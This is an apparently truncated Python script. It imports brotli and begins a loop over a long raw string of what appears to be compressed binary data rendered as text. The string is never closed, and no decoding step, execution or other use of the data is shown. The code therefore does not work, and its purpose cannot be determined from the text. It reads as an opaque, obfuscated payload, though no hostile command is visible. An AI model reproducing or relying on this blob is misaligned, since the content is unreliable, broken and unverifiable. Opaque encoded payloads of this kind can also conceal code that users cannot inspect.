import brotli
n=a=0;b=1
for c in r'''tivwP!~TΌ%NߜXDHi0|.EVǞS \./f)RɆ\^Ǉ>hk)W)Ce%Ş)}se>iM׽@|ʓ
К_ +ԡeGD-heg2o'fИ%Mrьؓ5]]sdʴ*^Mբ9I@c"4a=ĎǮaVh̺I}N)P;n0Yߦ Gb"LI}^g^b5#9T=(+БVP?f&\'+Կ-@S>N]DmZtz6ip[NΓ3x2d4"aC'_7HQYSdf;gY>ڳ;G<ۅs.j;ӈJo$DPSS{D|RoѮɮT5i@#1=5ziOXON3VS#!J]U_\TLͼhS(8l@R|RcI[@z]h'j̘61wZtW]-
FkE !)Kz
v7$2b=#`m#f-_[E_Oh+Z86Hg|7B^Ö(~nPJٮr[YPvޘA%MqszPn׻r*Ic܁lf`$Q6,Z\C7HE%"FZ}J7իdCP$+o1Яnʄ8_g	vo<^-J+Hi_,_ye>זL{۵b6Md%ZA4>ޘƩfԟ\PܰDӟ|xuSc6/HLZ_V]ȈS@=~(w1"qZk
4&<\Eybâ%)X8YׯzLuA{zi8o#	H_߄PGZ,xȡq gomM">FKiX^(˥=i"Ǒā].nbk0|?mzd}LeH@:ؖ9q[_d7^B^ޅLr̛j(k
rZGvvĢ-|6~1Z]W;|TOT`-N"QBԕ[ب[o͢յA0~tB,lXߪ@
"ORT]Fݦd}"%Ʃ((2Raldģx@Qm9Uo+qngoXR̰}(T@g2lN4ڧSIҖH$PIW[MȈ܅HG=ƇU.τ@cku,{orf8z\nK#d3}8lR&v`\^C>)|%+a,
n [i<:^J8^~ he\p;<m3#/Ղ+RƗѳ37FK1c?B .*JeY59?7-Ċ+1'dXV8VDw}E0=?VN^zlvAQhVő',ESZ+#$t_ xԧjGZ=ݗiVec<֍FillI
teVbG
B;;g~oSRmm,+EJ^A*7!,/&K`+	by{8YQǔR,R.#nةM@hzNP|Ű=}]SQվqXA;v2)=HPviɂ!&NNS<T=נA`.+Իhnܵ)mT;c~raSlx)0"m*fI Y;D|^AבvFdݦ?e#w
GZm{j2j-î΅@!2JV-4˘ǌx5ZUx0kiԉ҈\k4[	ǒ"R߻(k^:ÌW'Ɔ.`zo9n. QgSrAHJ.	OKaA wt0ހ٩z	m/dsu]fqr`&(c@Wśw<8g5OI4oc`ȜԶvi,_NJӽըu]OPՙR<*5sPk6ԙR}jf`ֳcحužֵkkKW-jurvC΂	9#mb9
zj~KkC~O_J^H;U ߪ"U3@dB1B 4<NΑA8mmĮdW-b$:
ët?-"D;vT+BI77דiR|,wR1(^b|vAohczE+9tAqݠAlS}%/;iVb%rFCtpi:ڐToN&jk0z"2!ShF]PU_yEddٓN4	nbxxlڞ3srgߐD|Pf,ԊDK:ۊ۫Ʈ~]#Tʦ 0NU3FA3pyKG"wL}s)p&VŽ]_0<oW_R/ϡǃͫ~jՈS
JtlwѦd-m݅Ĉu&EAo.7tTљaX:sVNmPlյymzA_w*2tB3Bw%iMj.4ƪvn/cQD%<oصh{מqʲ;zZAǋ@ߥ0 ?ex(FNuKpp,n9=RdӶe7?	l8]oSҐæ"Ʌ>=Dyэ81-NR',`@fX0ԝhSJ}ҁ%v<^
9p$6v&>SeVW@gסSʍ܉0FʓEb7ܹSټ',>:<d7&RdSq_182#tOw2E?dRX'+wWiKo+W!ȆzNmW5yј-17{{A߉IN?1"Я$	/oKm!$Q;uGpA'ԠjcЦ>5`"(KԟFºZBrܨSQѓMMJ3S"9GS5/AΘ :%[^0rM	4"2[d(4:nH;*IcqB+pngo61#D5*kU!t@THRy'cqkV(̌_A@ŭr4 3oyd9mPqc:͔&!7^:WȎ@BQUE11|DWگQ06{Ա.sqs%x-]
I/ɑ,>#>P56TB-WX}Rdk^lìLjTXާ?|?fJAͤ;[S5×)yLVsc9U\BɋV\6$2I*U!;GbAEqT|&
8t2!4^Db!Z`TV4+4 ~UZߔji:hd7hJ^WF"%by]yZ_˖ߖFPlCa.N[% P,Eި^yewY9/	:VMƈ
[OשWci@o_:3ȓݞxόoEJD	ԕH1zLʈP"Z)-gG7Cw)r.uĪ6(EVBs)Z6<{%i	&͛
5>˔	56>9#lbNT)#eJS7|BH:Ԗ6e{ v3,G|kų}ywۚ+ҡNebZTT
`c{iI@I-?߹$.ekpםMT+|#8v'>eaT>1uv,.bɍ=GswW&D./"Ƞ݊X¹87̰\f Gm'ɢz2
MjF9biv2uJo54WwԼX^gYԼR9vW T5WÐuo9f53V/|3ŏ;JLy͞QZ.&KLcAqt~SUV.4<cSMÊOePaXkyB~ʲ-|Oˡ^(g0Mk9.up22iQ+"vVM 0=M[(5eVVo7NwJtڜU74mOAχ\^eͭ8:ɸ/q]YV7٘mzWg
a|U{&(dm
j=lM@1դsM4LntdpsLLma+NoIUo0$'AsxŔd҉Qz}B{*]FA::Вt}ݳǻD::$Vum%ƠngԲO9]zY$i+WGS׏6#V7'm?*,%wˢHMVmՎ%\5NL	,|ގeӪZqzݚ:BܡʭyR_@vhtl=]!]п|Ձ\4&ob3 $I_:xH]n'֕s(܀8	SSҧm0xaH):4ƹ(4u%#yYw7!,0@z(J!<T>يh%ЀPYO":/#Qw+`ι̹pa
܊_Q<7fj&ϓdhҲ	M+.4Qċ?ksodςRx*fZkKX-n$ޑNDiǷu7^~u9LcVRÎd32W^̈}%˗*ӥI:JRC}VwyE7q>l:ҠŦ*I6e&[vä߳qsbZHK%L,ʖ{ԂW."/yО]t5jDSF!)UOU
(hPWϕӝ|[G=gm%H*EJT7i`J{JL4# oKVsd0bdpo],(ڎ͛G#^mP5vqۃ@]hh-UVMc"P5#-	#,38ŦN|q{ln߫a@7%2XʦZL*nb9[_H+KA szC
y@1gٛHGğX[:Fа߼y'f"\XSl(!l+P'<7NѠ8ݷq*T;<%&zbN|Sz& v5XzܘIs

:'|uyx0ǻѕZvevŤ^ja	1?ˀR7BS?ٓDNz}96B"ǭh"I4ʦ3Atbbȩ;A"8p,קm[-xb1/]ùդlތ""x##H?.ש>~sܘPe
mСFN{%&39w;%3r;ܵi$ےߥ6<h
gczauiܮ#Jx^ИZ<n,QP\جČ&F߬+}]SڀI@el1ڨy!J.F)j(M̈́E4Y/7'=bRJ'Kk-t.eڨ0ޯ=/gr8ԍR[B{rڐ9[#=lUb§Lx!t(;YCOalIݐr:_aкв3eq<-kLa:ِI
hFiU>:~FՄ+4k:JR0(<n'Ä	@(ڶϴH3gs2s7և>%!2wr˳&j k*G#0+1yu@WɲϩEx6MU H7dS|qػ?qv"qFYcela7Sɪ/><ʆkÕ
V2Sde	2;Z@Qq@oK;;<sJ0yJz#uZlrNŘ5F~×#f*mxk/*2?YTeգ V0r<6ѡ T?ϛRތk ;)S^I8ȿ	sN]bl!E.~ظud3EeÙdԈUۼԸcմ1=}Gg+L6K@*0NxX\WԵ9bq'֐'16Sg5&X{N z4̷Ǹ>͡ug}+^uln*aq	V$4ݩ6sbԗF)|ʬI8HjMٲ}X{ӎ-MHA[2WSVv4=eS|2{Lf]{RyK$7-b6߽~p|l7'%(x=J{6ɛ[ъU~g>BzIh%r-&e_`x[u*QCɾ@@lNGf5Oȹs7YMɣHX
G5YހãNԐACn9 ?i[=7se45Aѻr^Z,5+l*ٷюx$=oF}Wo?Uf@BX3;%clڎm+_1h$uW<Ʌ3LR5vbʺ܄lִDQ3Ecާ%E^JԹ1uk@`xR֌i"C/]E$0EQW$.TnUpW5+V!V5=`Ѕ`Wd!Mq%F1«#e,{_Zħo03DE+u,AK{ߓZ:Y]:g.)]G97lo5lHw2~$t<`ٰ@PA&/5h":-ؓ;`]I!ZUU _ٗ=ƎQԜͥwΰL-((ʰxN
_pڃ6noi(00%W^%(ElC,?Κ+ʔNfzPAߊsmT^)WIA$v$	n*oY˞-+y6؝[/%A,oՕB|1)ļ=];N\Vҍ[048duaWd0֎:gbh>f.t?ʑqMxvM~7[AsHb(н]ڇ0tfUG%+`c}ؕJh;0$zPeش%ƀW9ܪOld<,.O>TWQWG#L5,ÔzrdpYNKJY9|òpų˙c.D`{XʙѺA<{TԛyIrW3AZӠn6kZ{JG2^5AdXJԨpsΛ/ZQBC~9Ɖv}Bf&H4F}AgBk|ڣz\]:]ZEk.3C>ٝ"w$W+95.kkf;'j!;L0M!Ce["ӍFźy|CDeȂ Է(|);-dr80UOk3g;N"\QrRY)G)'(w<1֦2Vu@x;'FV{
Ў?ڥ\<G"E~|X`e]_w}R٧
N%t3[;Mo͍PB)(y|-u˶=?@~DfՌ$PٳکYm@ā4K/Sj*َ(mΉ$y2w6cwsAKï}\3gfq/޸6'Zuq%Kۏ'4M7jڄ':HwX,]ĂSPCt;seT*RfI)t6)/9ۢGH8=ӕ(ܠª!q!īϋJΨ+TիWohi"
E*]R#cG	4{Ԍd3_X#dohl?q7#fA<d~F!+(\tԻu#ۖwGmzٕKl8Z*`buS.Q25)Ij^J3MSnڭ*V
J.jtj<(f<$ǼF#b0<Yi$\ԅSs"{FڝկI|CsKw|	By]My4ٕ~,fYM=x1E4LƓXɓmU&;Pq-7MLV~U[]GP+Z;zעyz|K֭:gQrs0&&[3Z(pӜ4F_
roA	ÏvBhHoYԒ7zd:zMP`DȇdYc96g_|^B(<ĺ\6DkrUr3Ljr`ed+r[:+V~aǲb^2wo3i
ӽ"PӞw0$qRPة-Q+5%1}-@gM{`%nu̟Zܽtʳ~`z`nէDYK!M#)6|q3!OS3-(	UϊANŠІFmcSq'ێʾHX_ڷ_nsOԉ) vK֘p$&!Z]`qyym2[%\yWϰ}-|ae+	`	5W2KCzQkߴ+ܑ̊=Բ6*]r(}ٟ"۸pT5TG-O̢DڳD	A<*-K4u}>@GbtjE8o(p1ǣ:u˯>un53ͮ_8t׆m=wC6шT$W;PWCgFnX*)>-ڬ۞F/l؂6S;ҴkZ!y4LxuȰq rE\X(;Ype2҇Ϧ=6	h0TЗMuՇmiӿ-uHp&S	4dÒɐ;
*/9y+lxehhYsh3܏z$_]|Ҷ˜`_n
4s*[-.iG-8ۼܐs7yVUL?XPп#Rw:yS2DMLZҹA5ޓ]3ǠuT{l/]d@bA~a%+0O
O7B=77t$ʬND|ĝ[DniqׄIkUڅ
цPhcEJCnr=S-?0/A8Վ+P!]dd݅ri}hgߨ.ez68x{3,ţ>VD[ٷ
c~P<LN½.=ɐ8	,UV7hCʆƺw<NIiĐ,۴G2Eg~T7kzHFx_#j-i15on˚@޲׽(Sf$]yڽ[U5PWٳ|A?CEw&}85[-{!ABBޣ6c	iǈ)"GvcK/8HaU)5	3n|94]7М1ɓ^cI)ԙ~o߇Xzg߾:Sd9ʰHTsHfs#F5ґg~%1!J~(T˰#Y-&HG
zӶY6ϡJ؂Ob/#HB5XjG~7Lo2h4i6#WkIf'CiAXi|$-baŋRx֞$hE<`+f^T4h,Yo^	kz5%,bݨI`9LHeA`3ܴ%/|M͞BN$ǲ42mtW'ʧAMǐroC?JuϙӫMK,|n=ݙũ!tڞl4$W+]1ШAF
zh٬+Wq?>b!D:Xg@]"i|{,Ǧ:tߏۭ;'\ANLi`5Cw͇m!OɕqÊEu#N(PԣH;GYR`s%6]kNo`B
aӷ|ŐX1U5cTp܎3pWXԵ.[*_|,kzΪE29M,C&3S-s'J#il|)}wY΁h0oF&V|FdȕÎY-^>e*9se@VbyK؂ֱ˛3d˞LeU5?ȏO?5TNkqiY/7NS=:TH"ĬD֒'ɂ4EZ4L	hYiơj^r̶#6e{6!mIcN\џoO6Bb ^߫%p-_t3gP[o[k9jzFm+eӴE"Pnv~Ww()>ύX
T qѓ#949)BKtyaM8RzCGx`v8!]¡/Cߘ-V`5+_j\9Vf317!xэ8zr]Yy-m^F`/¾`q<34C[\9ۗ6S\+?(u-*%w|Pߝ	73ξ`%C$^ňpK="=Ã"͠&oO~wܠ,̰(HAInԻdu:˼j$pC{b%C-e0"Ɵ.@8aX=v.EPէ3s<-	MD
(\.

vV['7^v~7gPwz))v݇LO\JɌ$b8_DBpxZgM:o,-&2HVkAȲQ6ˣmZ:bm4Sϛqj4vzݸ"k6:ɾl'U\Vdə$4CHYW,"9rgV+ʨ̓19}h?i:}u˘~"o|Q
Q"+'iZNUëx[_X,e45н!(.ǳt;ڋmRӸ֐2$ƜmZ6jDxZj<ǆ9!?sw'M;E-.-\IBe.S2uԟ2`:{Z^}-irfIHv/h+~I.@>fi6^i)4d~5.*JДѠA0وg/Wt^rypf#S-F5Lv~2{0M$H#XtD$y ߤ
H`o!P|qW'ƀUۄW3^Ѭh$>'$8|~BCbYG%_;yeyJ/0qs[&V =T-#=(m%ԫȫp,F~~:W!&:R2	[#QibB!bASLXIs.ߕw{Z@P#У>y<>vjΪlsR4/&ӷEě|J|`j(˺2I~c-1ePIz{818hˑWc5{>C"ϵ81'T%q|߶Xגj;Llvۣͷlk'hƄq5B+yuM=tA~DHYe/eX]14k:PB3zKл3Ny:ӽEZXPY^yϕ^8-Kޜ]3y,j8-3Jgx?/2H8l,QIеX[=4._0U]#l)<WrCkC3X=,}V#O#V!ȏUIG!|hn>?ffZY7&//HRSۮ`w%T]`KYU3ˏxS;,'&!?W}F&k`SGRZɏcҁ|iωq}yl|X˄Jy^:n7	M.fVgrC4}lo	;:Ŧgrc֛]_h?ʶTDjŢ!VR*o' /#/%f^xKU*H>h/A:NG[gÜHē݈xKoITLS|ŷ!AH*U?qc6ɨ5,c^/8I6.XǕLu͐ˁa`PhƱi)li5qp صJ!&%{R#.]ڙFl%~PPǆ3+5MW˱X$miM<>$!lBI9.4x/MrV;^+nһDey;?KʫM>}[TcGdB	(d5f&7AZ*e=0Y
[/	tt;C
E[Wa]MT8nΒzו4bIB-IݤA.@ΛϘ`$Ka8g#Ch az˚Wj/<6׵S{;ԻH'H2X¯)Ò^hMݛwϪ0&>rPۧo*kb:rUvqOǆaVvԥ7 =vϹG۞^SY<L[o5ԯEБޞłQ~ġ

rW	\5̞98)U*Rd9)dĮ/R
L-a&ޓ@Ǒ^\ W%Kq_OxX	t45Hd|(0i_AUQo۽{]܍fT+C=b}3e
8Y=l%&_-5МS6R[y@![ ,m^̲46	@6rd!cv!&Cɿ֟>A7@k}>|ՐH}SGǺ1?spĢFYk4-{+9\Ɔۈ/Ob	٨~-[57YW?$WgʑR%YW׽1ӷ9.Ќ۶<EŦF&>74JFD}uCRJ~K7hܰ> {E;xe5«`UugS7&w;)j͟l|XYk!ߢ!SV'EzfՓo=7I4pSs1$Ӭ3%5WZ|;wդօ+,kuLvYLضdƔY$ޢ1rtRuY.وʍw%Ì(M"N҄IYpё QDҮc9~_CV0-	[:ޔeQPĨO(ΦlcBZT<îG7&{#aqψ0z~yA]FrJ?ʦ
(ȃkއO,Ӟjf+A}jl؝bgNo/|yDIOk:dt	jv96o"v	oxxJŃbSg,^Yц^] ߦGxאw0g=h={Jk$ywq{m`D+%*;z&aHݎ"ƴL:Lc|.>QSӜ[RJesҀ,I׏$f*	D6cyl).3fq+G!q}=9['wǾ1@8vC<ӕT^YP\Asia<fKo^8ȷNx?p_ԂhrYB\_X;B[ӴB39M&DʒSeˊ9`G<*Ŧơ_o;M1'{aXI4bӌuϢR0a.)6A|V8AːYŌ|ũPۍC.Dh2I&"\p/ɤ>^3*#^Þna/ǡswN}ƍӉHs^l֛[[G+m]ޠmr=ǡB`0e$Ao gu1r@M. <MHU=m-ǣeQ@wa!ښ5y+rhr|TΌUƫj$V<c@Vq;KaJv͏*i)ؐpďvO{m6S}rI$8z[PQO05a+Ņ8%rvCԚbum]_|TAqH{V'JDKN{}2Ffӕz=\Ĺp'۪	ʸ|/!51\u"}FT,	0ibӲA
pcsXۙ>9)(?0*OнGPU3|g@1MNdF ?HfzN:{7UKEy%8fٿ9}޾ڏ"dJG/ĉNz~o#1	ZI@V|js WkY(Qh(b$2{/Q=aU co%N_43`JY"7bg|;>ߛK4#,Ka̙@WT%+Ĕ	?fćl,y]νñtMc8,@̶[P+q@$(rخ^@٩P;Ng=mWҌ064pЇt\:$[,cl[܆Mzo5AfKetdJ93#^߸LOel֓T
'+4F۶Ʒ2eV
OH4M'H8>:X-e*أz>Lv	A[ضeMh9" զe>'M"6WqͲL[#ސyu8)Ż.dw;&iA+c
$.u<AHpy|SSѕWu&MbwIrɡ<e{֩zB6t?̣NDM[J@,A(A3c:xQˮ8U_ḅZ˼u7z3Xh/ǡ7]J.6|4DҎAJI3f?ɵiC9J݅s|e%/aٰe z'A֡K]oߵeדLdUk%)CQ('ܠ)86Ku0R1FlG4SXg2UZ5N0]/'΢/ի5%ݓAj.?(gQ\&بo|z}tjdy_wͪ
̮b<:+$Y=<IfB0jfU.j^$,Civ@Oլh	>R6ҟiҖ-}!.NJeJe>":i9Eօbu?1ySY5|Bn"&v6cFL&M"PjϼԼJƈȜȏACW!H!>NUĀ@ҩ77ck2ȔÆ#5w		oAqjϑN=Q;9 R69~<IA}B39pGdZЄ8;{#Gy1ύF=5߇687¼m*{J' "̟ÀFy^-F(QVu,(2ؕB$Oڸ(\}`vcw[ɲ"UG;CY]B]Fu]01QRMDF$%tptѵ?z7CԹDbN_њ"C6^"[e*%ޅ~4s|e"-3Rjə__)1IN`2`V_ͷab6<iO4+x_ԂATݎ',30-Jkmߖ1?ժs?,oa{ȱaEh@vP2.{\`ع(֡ڪ>/H[(p֌XͤgQe2!`nL-K%ʒD7d.CY1j[vʧڊ!>z+[ck.r3'q6pyŝ;D`hjQfA$iE+_qmM*YUAI&!NF*AXa8s@m2Lbgݰ.WCs{cv ér^RUVCO)F%0Z%JU7W>l
#CB2@VuKk׆?tqn̥A)#ͱodt2M*P:|u՛5@EF~e՜'e[ޮμ:4ͤyAËCѶyҋ.yz
{&l `g+W4aˠM6B}M@~$ngMRC]fkvf@.m$_rTkX!ݑhC'ayGn"2vbW}Cm/Oׇ`f9{ɍVf݊m8O\yl	3{sDϟ~KJ@sBkU`EG[ˇ/j{Z,dHfyCbWݽ5ax=ΔNgmlC[ߗD/A9@7.5-׻5?dV220Z܎RH(>SNJmWRȖ_fN)$+GV`yUױ؞ш[0ՈW:_FͶYL]Ph56>+yHmx~V˷Mܪ9Ё|2t=ם3RŏAQEr;hl@'$N}>*6mԍfz4Cw}&ٚtMojAk,<UkxЅZ[aF?5a'izv$#[0RB?NMsρ"5X^Qۏv4J*-+*.nR%פ?D8TWMkqg~،[7=YSˆNZ>Wt<ܐM}!MAm@4V7jw>>]=0:nf@TH{D|ruDwHͽ!ަ]!kZP
wk+;gPJ`A
#rOi#SXuD?!\¡zrAUqDʡHM`_HkJ`fm f3?@:L[=4/՛cb["{ۏB	n#Ɖ"`%u۠..ؽtG|Ŕ>mb}-θ<t]i7V`aY!p˸޴F+]XBY:fÄenjs#koc_Oy,gKhei>Sn
H{	h9SԬݐh~hΗhK[j~xBC;AԂ
AeO{.8G:5Tҥ[&1i1?.Ap5ͥ$@#HHYmօˠievݰ]Ϧ=SkVVҮ	lyHx}Sqr5/lMcX1497ǼO8{]0f!8QvК.i&dŢՋ<>Uu%TxS އ$CΙWaˉFyBK+~و)Ы|8HďTa"§$Y{{N;6\p?)t:ic6E,?϶uŊӖ'S\ ȿb,&6fzw3\CZvz&C<HڌmUQǽ9KZRpJ+Lu_E{e^V!zG^r#;t0U[srpa[0He^Mz5_7kQ_6?ܪDd0R6$z}Mٽ2?-o&3t_:	 `ֶQZ-vJe89uF"P*l&{ɖ(̛*'p.Z%˟%ƌ:@Z4Co
wy.S:`ͅ{A~eac$T\r/.ܨWb	~dsH
4H!ߋr<gRmpTCmhMC޳ +i2_e:i	wёnr7/Ś|0yHʣQQoZڛ8E̎E!@xc-+3kD)(Z¬|cQ>?ewۯs]SĨk6ئn)3@'UAì>4I([Otn%Co*b5N}WʶRiS?#١iU~2GR1֮G P0vqݷ<Xw43wMf(xlۑ8ڱjwn	Pz~F;bd(G0ǶɛX.Hg]If0"yF=|w8(<rPoE6t%X,)>g"iT5"1UoS])@n<HZ8~3'ޜ24ggpV'fv85G(g߷'9X1J@7LHA"`O$0U@OFu(u0Pgx]ƴ~F
1m[e)`
3zICBɈ61'HKWBKvPb۲(.Ma-75q~6.q_Eo\cHr0t7Z`3LF{Xƌ*ЧBUR'$xc@_qD%*w/	3\?fL$ØÚg>u^uۑMiT_u+V72пa
k]הyiӜϋ3)9~"fЄ74@YMW <a&cp-8+2c='LO>DܑTY/|ˈ8ysʵv]ަ<Ǉ߾>"ihҺB/*#hwN7n۹V#$qŬ$89|U]t"Ke2")aC&eN1LX{ρ`2բWqRO`WieC}BąĖhH*>	@TlfHɳ~,j(/uXʙ)aSѿD~81p|-K?ړ'?^BԡЩ2@6%ʇ^YB1IayڒKI{S1o/k<Y&8)zȸ>Cdï!1`"D!fh|`Dd(c\~ZRQZP>J)61e@ҦԸלE@A;$Eu|;\֫!d%ґw~kQ2wu}AdτOnzcܮ;sbjk˫p\[~z@C˛47`,].ds=.8JFѽ7<;E{ģlnV0TIIcb\OKt?(&D#&iqI^or'pKfy܏BvV:rǘϠԮ.m-clV9j6tR#whXxiI)| g$]43NS\Agcҽ7jdN!ʱ'>S6ɦ#f} 9cܨMeN:ު(plK&ek<xRݙq(»y^?Mؒ:.)V6FǛ1E݌\9'__}di~wXl>Q'ψLendQLv$d^pLJX58Ejɓ<ZaױytX;YT՝U{=y]$\ЅRN2Xd2lc
4|$ZųvmlĤߜVXo#@MmgY_pÑ
c9{zhp%_QmMV~17 +)fѴȓ׫u&V=ѶHmpph-T~
Ld;*~eXمRCM`U%=)kH?6g+O1%O"`9@}9TkEujS@ͽ?
M-?R)*݋`'H9z>=7A{RFRQbԀ}>jPv:6ՑgFH1d8ɂ1h4
NMC@۴2<,ϔQ7soXyrooMmbï7Q4`!<
2?-u\oʜMlІ U؏wjb(#j.`	pɦuq3|M1~,HKEmӜ`YcШz$4ɦG)VW3?ĽYǕY]0?XtYEքkݘʘ) _fkm<#rVnʣK,t7{8#N@^P@:r(֕\H!}^uajIjrx˅T=	T*oyBI^Vv5ss7|yi6\$s	|߈F-χ3&SP7	6@x2'Z0#Zdv	/2UBB²ksoRLӃZjTFw.MjlمtR4hJwgnkSBa֗
\,grqy͘sn#2Pһ7AҙL0KjQse]2ͅBݏLloաmj;/mcî,mby5En4I>g~׊6ǣOˬyվZr!b2]Y"mhQ@rq`A1s>^7aԙҳX@ӿ/ՏH~k&@Jd	d֮_rdԤ(	߯8/S<-DOEQG-	[MG\y*3O+(PL=EFŏ՝yۻ.O՘2uz(L-г	w:|_q͙ʿ'_<g)rI7l|/,}׫#΃N)V,.WINƃugܲDdҦ>:n=SWoh#R}psGMmi1z'W+$V%DBM<Ơ,NrN ׆r)~S&$bNCb{
:n) Ġy__!eQn''`w\}	x٨c/ɗc'tʹ<Om?d19ǻ2DTYrILśe7R6WrdPlb[qXުT]gm]FHá>zIU1fk?4Krumwi=y/ͣ"/
X֋m!0
Fuf4}jŇc~eft:њ}Ic#=;p6g:!mT͊)ճ..l:eƌI88XL%w=z~l|)!ƮMe1uL5wǼÆm#hK(U}w eHOn+L	3qoW8ÿ,'59-N
{E&r,R%fFK]U~zyqE	ycצy"le2jʑr~xqL<gG&L_ *ۨZ/
QË[9Y_]#Y)-B>$iݧrs6~Y-h܎-ȼ-:ҘC}8|τT:i2܂>y^)}fY?k{aR'0]<-qiΛM5Z։7ɘcԳXġ1NwH~|2B!goru7Ŧ|a6ON}8/у:gW9GCgtJ^{ڥ޺/,lZB\PsHݮ/ھl(x%zφo&kQ|8W*J}̆g+׽?wڳ=7&wn:՚pR7[Zi6<9$V3s@_vc?	t!8>gUѼBt
K`c(ӆbutIЍvKff^S9<tL/HCA`y9UWMߢOQ'GblaY]Z7ŧJ
5)9>̽&ƪJ4*~z,cs42mrRT-77$\n18/[XBQ+0)c-!xפQ$u+>ߖwS9Rע@<U\6:,ĐQ,bս@Y,fP<KnOe|; 
>_o*$Ѝ:t22nvtϣm;P(BCy	7k`O=liUS1pȬ;̓b}>k$&Uތwx@L@&!Vt=w\O^#	75`2~8O8
ߚ%3h#E9WE֪NueǙìt2ӜxbtJ$+KGȀԹ|L)ڹIӽtMeN=|r@R W{i$e^CFYȍZf>h5K/aޕZ3|HƯBeBV5as8ݦ(&!?Zfk\CĎyd.Ϻod`tG۱OXtM9фf%?=FkQСIZ$F)ڛ-v	0ê	7O:nlv1Z`\^o,všͷƊy<uȢkn#ˍPfT	kr`UK{maxտvΝjoJ4؟TzYfY)ؖr~ċ^M1W
s+Ph]MdU7:"&YrJis̲3]tqDq~+" BǈCX No-ľ8G7QݍCݵJjΰźȶ{E/=٬aS۷̬ڧ_ؓRq0NƼ	Aeu'Yqc ,8ޠtω]?J6NWN{13B?k2V@j@3w̚>/uFH;akǭptLDh(UTNj^Z?r{N,v	ߙ&+ɖѱ^ǨּHفt 7.mND~dP=_vBi!ÒшLѝ
3Ğ&JޕEdcs>^i+\b#MW(ר	O||qF';uE\+oiC;Lǭl>Dhk8NdqAV:o-~,ĿW7&/LzĹ*Č"qW+Yjƅ9HlYS
tnXtB"1kɮYԲe>#o#ܟ~6TUDMp]j#gc>Nx[W9+TuSXre-]qɇ7mB*f]yҌj:ץj*CȎ7|{\h0x<42)}ǌԿ&F>" !ݖ+Ȃ.&&hSҞϖC˔lV;:Bo0)*;@3BjՄqmaL9OE{!]m_9%_Yԕn>>uo)ެsLK:߹ߙwJ4WK
Vi0Mj&7x=]h_J0'mzT"tD|Gٜ^a=WՆPO{!4?(ki`eա4jղ8ºE
+Kܣq[y6'Lϵ((8^-ԩR#fm" AØns-2HW)|Yկa߬?`yP?MYGӯWvsAzʹQ~;5Ø14[DGRsHt{hܷc`/lؤD# fu'%Y5׌(ido>Χ"?S	ݜ^50[,ՓB9tgq[Cj#'o6_MY9A4tjʏGzN[-<q),uueu0&^}ЪbUlvU['-VUv˳qFD5Uf0lr6;QtNuclօ3M,bЄN\2zTա/c C"M NCJ}y޼F!KLDۥվ[a!9.9&5
Tb()1Z_Te ;/ڎ5bб*}M996˻*lxhBAgh;D4XImR~WlOSeQ0ϖʱʾXGQt!yquʈҝZ+]\ބgcj+9`G>ƥ,9nR͈ނIJ.fIunסCV>Mʉd)oKm\ק2lњݖ˃Ϗ$ͬK,.V˭+~l]ڢOwtn%ܻ2<*7bƪ^@n,xn^\NF7NVN1K+j+CS)8*-J̍!Ҝ:]$9*)	
!Da=Fo*hqY:kEpӝO18a+?SI^Xۥc<V,69ՎqZFN׷z
Άar1Ç'Zrw)޷1	Ʈ^\,_o<Y	JV<qOf6y	A"{;Jx/?V9P	sR}Q&ƃhή)~FǸNo:_}s#2aћ;9}ˈPʇLdu+Y6]l2:frڠRo׃zI/$poL{ <;uv:?_\ڞ*$fhW١^»__ynn^Iаhx`o}Sܬ|uHvid\;e2|,R"xe&gliP]	MFsͼ0`4w^vIas'Q'@Z١^O;!ގ_SHL bN|s6="U Lӄ\eWԀ+/p2>!<QYr+LI߀49Cb7ˆRΏ!͈$z;К;3oت?~F
׍DM;pnBa/8s~DEN8zqHޞ'XG
޲eŷыr@Lt-&,Rjn#fn'Ζf[&aƋC9اҼ\	rۥ/]5q>S͓n ,,,ђb<XRpehvrqΘ#CN%-\nTkb0ctsƟ&':.r>m5t#c.+O9*}Blj28ZKPaK|JWu8e|ާmƛץsAJa'R!#݁A-nb;^A%OHRmX> zϫP4,oWNt!¹J]4+ɩsQ~lSkEm|:'pѤU^ۮ){L/O(9N>BԘUDyZ+iz TPK Xl<9ɺ.zV`I4%.`,awiUhCt7mIGaL=>ٱ_BIlo5NAEj@\z҂6Y *x*	JأPxs.\V5K'bT*Գɚ ˤ*k'ȇ4{+Kx`0/OzS`V	>prl#=~	ٯP1:~U4-hJP ~%cɧzbARrRIPItD@JR}µ;}b23bW>Au\'$p+e{A`}y$!ϊ܀1KXhkˌFa6D+Y%	=WƝ:#
V^b"(׎}ڤ3٬)KpPtũũb3jXiXaY	'dGSϧ^THtB9cnZbak:l^qTTYͤχ؊ o

Gc*JEgS(=ϡ	f" йPxuv\;?;߼ 7^rsd;C֊R6y>iIO*4?0oD:6bQ?:C6h.%CIE<ηV}&zUJNr@/6B`?ƭpO:ͬMHЎ2ЉX<	׾©1թL`ϴa@c6-`xXmDĮ UKnHA5?1o)>cau!j
lm1)EVqM0>Ȧͬ3H˛|ËF2lun*aAxDxFJ!ݹϓ=ގ-;pB$q,\sۺ,ɾHQr/Tӝ;SkĢ +Щǡڅߘ[z1pnÈRga9H~+zZ6V}G%x> (X5xٷ+<b&FU:Y8;HO|8	&c"

A{
:'5E?z\"?:Wo:hiw|]nK֢pBR"07'3pNLV}H|HU,_uM/
0k`US'ew(tSAD%?֑'MІv
WJ)WBślM̏(N#2%qlˑ2A`?jkĥ3:M8b˶UF=bVd;E"iLޔKz-odR_!4Hʸ^U˧rWFʒ<^\Cgl|bߺYjg7,3+1Sc7m!"(
ML-v1^~oS7çK5Vfa@t)D,]Ig/4!Uw#DӋY	H'|L
XˋQ2=$W |q3
}،+ԿPh@ܧn3֜UU;c-U\IrxןhrYlM0žN֨|6#O-d|_H^Ux`mf|muVeo9:oA|BrgD1s5pd"|!
nّs,<9r.rΜ~q'#&T}xM.ʷ(<bkqΪ;"ͽFw.3L,%̯CخhJOt3EiA<,ު'(
b5/-70]9FGbjFSxe-U/ծ͇Đ47xl>H´\`8o3uD1mЀ\v&YwgDU,q}!Ò)),aEό=0O(+rÙ?R	prmucX	=2h|cSV0#k.Zp
4ZYʐx1[+VӘ݋=_\˯ {Cqx\`x&{G	l'I)<_HHf8I)7Ri3jO[V	6}aGg.`doۑ!~>Jڦ2lWE
I|. x0؂^!fh=~XBKd(_X`byHWLզV_ۜxgIX#BFW?'v$rj<sW"gIxYɯ%fѢ{ߢaB#jaQ_L;G84IŲ5+Mm8ۖ˕b:03ĈjmUzk˅ƹ6AIŭ5Bsh>)&($@Dѕ
